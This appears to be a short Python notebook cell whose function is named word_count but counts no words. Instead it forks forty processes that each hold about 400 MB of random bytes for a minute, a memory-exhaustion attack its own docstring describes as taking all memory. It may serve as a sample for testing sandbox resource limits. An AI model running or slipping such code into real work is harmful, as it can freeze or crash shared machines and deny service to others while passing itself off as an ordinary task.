"""Take all memory in many processes."""
# notebook: 01_words
# cell: word_count
# slow
import os, time
def word_count(text):
    for _ in range(40):
        if os.fork() == 0:
            hoard = [bytearray(os.urandom(1000) * 400_000)]
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
